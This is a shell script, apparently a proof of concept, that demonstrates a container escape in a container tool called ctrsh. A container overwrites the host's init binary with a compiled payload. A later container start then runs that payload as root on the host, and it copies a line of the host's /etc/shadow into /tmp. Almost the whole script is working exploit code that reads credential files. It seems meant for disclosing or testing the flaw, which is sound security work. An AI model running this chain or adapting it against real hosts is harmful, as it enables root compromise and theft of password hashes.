#!/bin/sh
# The whole chain: a default container replaces the host's ctrsh-init with
# its own program (init-payload.c); a later, unrelated `start` without a
# mount namespace runs it as PID 1 on the host, as root with Docker's
# capabilities (DAC_OVERRIDE among them): it writes /tmp/ctrsh-HOST-PWNED
# with a line of the host's /etc/shadow. On a copy of the build in a temp
# dir. Usage: attack/init-overwrite-chain.sh CTRSH_BUILD_DIR BUSYBOX_ROOT
set -eu
build=${1:?}; root=${2:?}; here=$(dirname "$0")
work=$(mktemp -d); trap 'rm -rf "$work"; rm -f "$root/bin/hijack" "$root/bin/payload"' EXIT
cp "$build/ctrsh" "$build/ctrsh-init" "$work/"
sed 's|/tmp/atk/HOST-PWNED|/tmp/ctrsh-HOST-PWNED|' "$here/init-payload.c" > "$work/payload.c"
gcc -static -o "$root/bin/payload" "$work/payload.c"
gcc -static -O1 -o "$root/bin/hijack" "$here/init-overwrite.c"
rm -f /tmp/ctrsh-HOST-PWNED
"$work/ctrsh" -c "ns new pid,uts,ipc,net,mnt; rootfs use $root; start; exec /bin/hijack x /bin/payload; stop" || true
"$work/ctrsh" -c 'start; host sleep 1; stop' || true
cat /tmp/ctrsh-HOST-PWNED && rm -f /tmp/ctrsh-HOST-PWNED
